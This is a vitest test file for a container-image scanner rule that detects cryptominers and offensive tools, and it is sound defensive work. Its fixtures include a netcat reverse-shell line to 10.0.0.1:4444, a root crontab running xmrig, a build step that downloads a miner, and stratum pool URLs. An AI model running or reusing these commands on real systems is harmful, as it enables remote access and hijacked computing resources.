import { describe, expect, it } from 'vitest';
import { imageMinerOrTool } from '../../../src/detect/rules/image/miner-or-tool.js';
import { runRule } from '../../helpers/rules.js';
import { imageConfig, imageFile } from './builders.js';

const step = (createdBy: string) => ({ created: null, createdBy, emptyLayer: false });

describe('image-miner-or-tool', () => {
  it.each([
    [
      'a miner by file name',
      imageFile({ path: '/usr/local/bin/xmrig' }),
      'miner',
      /carries a cryptominer: file \/usr\/local\/bin\/xmrig$/,
    ],
    [
      'a pool config',
      imageFile({ path: '/opt/c.json', content: '{"url":"stratum+tcp://pool:3333"}' }),
      'miner',
      /\/opt\/c\.json mentions stratum\+tcp:\/\//,
    ],
    [
      'a crontab running a miner',
      imageFile({ path: '/etc/crontabs/root', content: '*/5 * * * * /usr/local/bin/xmrig\n' }),
      'miner',
      /crontabs\/root mentions xmrig/,
    ],
    [
      'a miner in Cmd',
      imageConfig({ command: ['/bin/sh', '-c', '/usr/local/bin/xmrig; exec httpd'] }),
      'miner',
      /its command runs xmrig/,
    ],
    [
      'a miner in the Entrypoint',
      imageConfig({ entrypoint: ['/opt/cpuminer'], command: null }),
      'miner',
      /runs cpuminer/,
    ],
    [
      'a miner in a build step',
      imageConfig({ history: [step('RUN curl -o /x https://h/xmrig.tgz')] }),
      'miner',
      /a build step mentions xmrig/,
    ],
    [
      'a tool by file name',
      imageFile({ path: '/tmp/linpeas.sh' }),
      'tool:linpeas.sh',
      /tool linpeas\.sh/,
    ],
    [
      'a reverse shell in a script',
      imageFile({ path: '/entry.sh', content: 'nc 10.0.0.1 4444 -e /bin/sh\n' }),
      'tool:nc',
      /offensive tool nc/,
    ],
    [
      'a symlinked miner',
      imageFile({ path: '/usr/bin/kdevtmpfsi', type: 'symlink', linkTarget: '/tmp/k' }),
      'miner',
      /kdevtmpfsi/,
    ],
  ])('fires on %s', (_name, obs, key, summary) => {
    const [hit, ...rest] = runRule(imageMinerOrTool, [obs]);
    expect(rest).toEqual([]);
    expect(hit!.hit).toMatchObject({ key, severity: key === 'miner' ? 'high' : 'medium' });
    expect(hit!.hit.summary).toMatch(summary);
  });

  it('names every place one observation shows the miner, in one hit', () => {
    const content = 'echo stratum+tcp://127.0.0.1:3333';
    const hits = runRule(imageMinerOrTool, [imageFile({ path: '/usr/local/bin/xmrig', content })]);
    expect(hits).toHaveLength(1);
    expect(hits[0]!.hit.summary).toMatch(/file \/usr\/local\/bin\/xmrig; \S+ mentions stratum/);
  });

  it.each([
    ['busybox httpd', imageConfig({ command: ['httpd', '-f', '-p', '8080'] })],
    ['a whiteout of a miner', imageFile({ path: '/usr/local/bin/xmrig', type: 'whiteout' })],
    ['a folder named after a miner', imageFile({ path: '/opt/xmrig', type: 'dir' })],
    ['documentation', imageFile({ path: '/usr/share/doc/x/README', content: 'unlike xmrig…' })],
    ['nsenter installed, not used', imageFile({ path: '/usr/bin/nsenter' })],
    [
      'an ordinary crontab',
      imageFile({ path: '/etc/crontabs/root', content: '0 3 * * * logrotate\n' }),
    ],
  ])('stays quiet on %s', (_name, obs) => {
    expect(runRule(imageMinerOrTool, [obs])).toEqual([]);
  });
});
